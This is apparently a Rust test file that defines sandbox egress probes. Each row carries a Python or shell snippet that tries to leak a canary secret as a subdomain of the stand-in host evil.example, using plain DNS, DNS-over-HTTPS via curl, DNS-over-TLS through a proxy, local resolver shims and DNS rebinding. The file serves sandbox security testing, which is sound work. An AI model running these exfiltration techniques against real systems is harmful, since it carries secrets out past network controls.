//! Names, in every protocol that resolves them.

use crate::ground::{Control, Inside, Road, Sign, turning::PUBLIC};

/// Names, in every protocol that resolves them.
pub const ROWS: &[Inside] = &[
    Inside {
        id: "net-dns-udp",
        tries: "Ask public resolvers for a name that holds the secret, by UDP.",
        script: python!(
            r#"
for resolver in ["8.8.8.8", "1.1.1.1", "9.9.9.9"]:
    quietly(lambda: udp(resolver, 53, question(canary + ".evil.example")))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-dns-tcp",
        tries: "Ask a public resolver for a name that holds the secret, by TCP.",
        script: python!(
            r#"
asked = question(canary + ".evil.example")
quietly(lambda: tcp("8.8.8.8", 53, struct.pack(">H", len(asked)) + asked))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-dns-own-resolver",
        tries: "Ask the resolver that the container was given, and the engine's own at 127.0.0.11.",
        script: python!(
            r#"
quietly(lambda: socket.getaddrinfo(canary + ".evil.example", 80))
quietly(lambda: udp("127.0.0.11", 53, question(canary + ".evil.example")))
quietly(lambda: udp(gateway, 53, question(canary + ".evil.example")))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-dns-over-https",
        tries: "Carry the secret out as a question to resolvers that speak HTTP.",
        script: r#"for name in dns.google cloudflare-dns.com 1.1.1.1 8.8.8.8; do
  curl -s -m 4 "http://$name/resolve?name=$CANARY.evil.example"
  curl -s -k -m 4 "https://$name/dns-query?name=$CANARY.evil.example" -H "accept: application/dns-json"
done; echo "tried: curl ended with $?""#,
        ..Inside::OUT
    },
    Inside {
        id: "net-dns-over-tls",
        tries: "Speak to resolvers at port 853, past the proxy and by CONNECT.",
        script: python!(
            r#"
quietly(lambda: tcp("1.1.1.1", 853, canary))
for name in ["1.1.1.1", "dns.google"]:
    quietly(lambda: proxy(f"CONNECT {name}:853 HTTP/1.1\r\nHost: {name}:853\r\n\r\n{canary}"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-dns-shim",
        tries: "Ask whatever answers names inside of the sandbox for one that holds the secret.",
        script: python!(
            r#"
for address in ["127.0.0.1", "127.0.0.53"]:
    quietly(lambda: udp(address, 53, question(canary + ".evil.example")))
    asked = question(canary + ".evil.example")
    quietly(lambda: tcp(address, 53, struct.pack(">H", len(asked)) + asked))"#
        ),
        // The same shim answers in the bare container, and it asks nobody there either.
        control: Control::None,
        ..Inside::OUT
    },
    Inside {
        id: "net-dns-rebinding",
        tries: "Use allowed names that lead into the house when they are asked for again, or to both, or in IPv6's clothes.",
        script: python!(
            r#"
def ask(name):
    return proxy(f"GET http://{name}.example/{canary} HTTP/1.1\r\nHost: {name}.example\r\nConnection: close\r\n\r\n")
first = quietly(lambda: ask("a.once"))
for name in ["a.once", "a.once", "b.both", "c.house", "d.cloud", "e.mapped"]:
    quietly(lambda: ask(name))
if b" 200 " not in (first or b""): sys.exit("the address of the internet was not reached: " + seen[0])"#
        ),
        // At the address of the internet to which it led first.
        sign: Sign::LeavesBut(&[PUBLIC]),
        road: Road::Turning,
        ..Inside::OUT
    },
];
